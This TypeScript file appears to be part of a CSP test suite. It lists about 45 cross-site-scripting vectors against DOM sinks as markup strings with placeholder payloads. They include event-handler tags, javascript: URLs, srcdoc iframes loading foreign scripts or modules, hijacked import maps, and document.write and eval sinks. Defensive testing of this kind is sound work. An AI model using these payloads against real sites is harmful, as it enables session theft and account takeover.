import type { Vector } from '../vector.ts'
import type { SinkName } from '../sinks.ts'

const sink = (
  id: string,
  at: SinkName,
  what: string,
  markup: string,
  more: Partial<Vector> = {},
): Vector => ({ id, what: `${what}`, markup, at, ...more })

const CLICK = `page.document.querySelector('#c').click()`
const SRCDOC_MODULE = `<iframe srcdoc='<script type=module crossorigin src="EVIL_JS"></script>'></iframe>`

/** Values of the address in the hands of the app's own, trusted code. */
export const careless: readonly Vector[] = [
  sink('domScript', 'innerHTML', '`<script>`', '<script>MARK</script>', { control: [] }),
  sink('domOnerror', 'innerHTML', '`<img onerror>`', '<img src=missing.png onerror=MARK>'),
  sink(
    'domSmil',
    'innerHTML',
    '`<svg><animate onbegin>`',
    '<svg><animate onbegin=MARK attributeName=x dur=1s></svg>',
  ),
  sink('domDetails', 'innerHTML', '`<details open ontoggle>`', '<details open ontoggle=MARK>'),
  sink(
    'domAnimation',
    'innerHTML',
    '`onanimationstart`',
    '<style>@keyframes k{to{opacity:1}}</style><b style="animation:k 1s" onanimationstart=MARK>b</b>',
  ),
  sink('domIframe', 'innerHTML', '`<iframe src="javascript:…">`', '<iframe src="javascript:MARK"></iframe>'),
  sink(
    'domSrcdoc',
    'innerHTML',
    '`<iframe srcdoc>` with a script',
    '<iframe srcdoc="<script>MARK</script>"></iframe>',
  ),
  sink(
    'domSrcdocClassic',
    'innerHTML',
    '`<iframe srcdoc>` with a foreign script',
    `<iframe srcdoc='<script src="EVIL_JS"></script>'></iframe>`,
  ),
  sink('domSrcdocModule', 'innerHTML', '`<iframe srcdoc>` with a foreign module', SRCDOC_MODULE),
  sink(
    'domSrcdocUpload',
    'innerHTML',
    '`<iframe srcdoc>` with a preloaded, uploaded module',
    `<iframe srcdoc='<link rel=modulepreload href="OWN_JS"><script type=module src="OWN_JS"></script>'></iframe>`,
  ),
  sink(
    'domSrcdocMap',
    'innerHTML',
    "`<iframe srcdoc>`: the app again, its import map the attacker's",
    `<iframe srcdoc='<script type=importmap>{"imports":{"STATIC_CHUNK":"EVIL/mod/ID.js"}}</script><script type=module crossorigin src="ENTRY_CHUNK"></script>'></iframe>`,
  ),
  sink('domLink', 'innerHTML', '`<a href="javascript:…">`', '<a id=c href="javascript:MARK">a</a>', {
    act: CLICK,
  }),
  sink(
    'domForm',
    'innerHTML',
    '`<form action="javascript:…">`',
    '<form action="javascript:MARK"><button id=c>b</button></form>',
    { act: CLICK },
  ),
  sink('domObject', 'innerHTML', '`<object data>` of an uploaded SVG', '<object data="/up/ID.svg"></object>'),
  sink(
    'domShadow',
    'setHTMLUnsafe',
    'a handler in a shadow root',
    '<div><template shadowrootmode=open><img src=missing.png onerror=MARK></template></div>',
  ),
  sink('writeScript', 'write', '`<script>`', '<script>MARK</script>'),
  sink('writeEvil', 'write', '`<script src>`, foreign', '<script src="EVIL_JS"></script>'),
  sink('writeUpload', 'write', '`<script src>`, uploaded', '<script src="OWN_JS"></script>'),
  sink(
    'writeModule',
    'write',
    '`<link rel=modulepreload>`, then the module, foreign',
    '<link rel=modulepreload crossorigin href="EVIL_JS"><script type=module crossorigin src="EVIL_JS"></script>',
  ),
  sink(
    'writeImportMap',
    'write',
    'an import map',
    '<script type=importmap>{"imports":{"LAZY_CHUNK":"EVIL/mod/ID.js"}}</script>',
    { breaks: 'success' },
  ),
  sink('fragmentScript', 'fragment', '`<script>`', '<script>MARK</script>'),
  sink('fragmentEvil', 'fragment', '`<script src>`, foreign', '<script src="EVIL_JS"></script>'),
  sink('fragmentUpload', 'fragment', '`<script src>`, uploaded', '<script src="OWN_JS"></script>'),
  sink('reviveScript', 'revive', '`<script>`', '<script>MARK</script>'),
  sink('reviveEvil', 'revive', '`<script src>`, foreign', '<script src="EVIL_JS"></script>'),
  sink(
    'reviveImportMap',
    'revive',
    'an import map',
    '<script type=importmap>{"imports":{"LAZY_CHUNK":"EVIL/mod/ID.js"}}</script>',
    { breaks: 'success', control: ['chromium', 'webkit'] },
  ),
  sink('scriptUrlEvil', 'scriptUrl', 'a foreign address', 'EVIL_JS'),
  sink('scriptUrlDirectory', 'scriptUrl', "a foreign directory named like the build's", 'EVIL/assets/ID.js'),
  sink('scriptUrlUpload', 'scriptUrl', 'an uploaded file', 'OWN_JS'),
  sink('scriptUrlData', 'scriptUrl', '`data:`', 'DATA_JS'),
  sink('moduleUrlEvil', 'moduleUrl', 'a foreign address', 'EVIL_JS'),
  sink('moduleUrlUpload', 'moduleUrl', 'an uploaded file', 'OWN_JS'),
  sink('scriptTextValue', 'scriptText', 'code', 'MARK'),
  sink('importEvil', 'importUrl', 'a foreign address', 'EVIL_JS'),
  sink('importUpload', 'importUrl', 'an uploaded file', 'OWN_JS'),
  sink('importData', 'importUrl', '`data:`', 'DATA_JS'),
  sink('workerUpload', 'workerUrl', 'an uploaded file', 'OWN_JS', {
    limit:
      'trust in `script-src` travels on to the workers that a trusted script starts; give `worker-src`, and the directory of the workers, where uploads share the origin',
  }),
  sink('linkValue', 'link', '`javascript:`', 'javascript:MARK'),
  sink('frameValue', 'frame', '`javascript:`', 'javascript:MARK'),
  sink('srcdocValue', 'srcdoc', '`<script>`', '<script>MARK</script>'),
  sink('locationValue', 'location', '`javascript:`', 'javascript:MARK'),
  sink('evalValue', 'evaluate', 'code', 'MARK'),
  sink('functionValue', 'construct', 'code', 'MARK'),
  sink('timerValue', 'timer', 'code', 'MARK'),
  sink('handlerValue', 'handler', 'code', 'MARK'),
]
